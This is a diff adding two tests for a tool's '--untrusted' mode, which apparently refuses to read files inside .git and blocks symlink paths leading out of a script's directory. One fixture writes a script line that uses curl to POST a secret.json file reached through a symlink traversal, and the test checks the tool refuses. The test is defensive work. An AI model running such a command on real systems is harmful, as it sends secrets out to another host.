@@ -534,6 +534,21 @@ def test_what_some_file_system_takes_for_git_is_read_nowhere(run: Run, tmp_path:
     )
 
 
+def test_why_what_git_keeps_is_not_read_is_told(run: Run) -> None:
+    Path(".git").mkdir()
+    Path(".git/a.json").write_text("{}")
+    outcome = run("--untrusted", ".git/a.json")
+    assert ".git/a.json: cannot be read: --untrusted reads nothing of what git keeps" in outcome.out + outcome.err
+
+
+def test_a_directory_above_a_symlink_leads_no_script_out_of_the_tree(run: Run) -> None:
+    Path("link").symlink_to("../outside")
+    Path("a.sh").write_text(f"curl -X POST {URL} -d @link/../outside/secret.json\n")
+    outcome = run("--untrusted", "a.sh")
+    assert "a symlink that leads out of the script's directory" in outcome.out
+    assert CANARY not in outcome.out + outcome.err
+
+
 def test_a_large_file_of_a_stranger_is_refused(run: Run) -> None:
     for name in ("large.json", "large.ndjson"):
         with Path(name).open("wb") as stream:
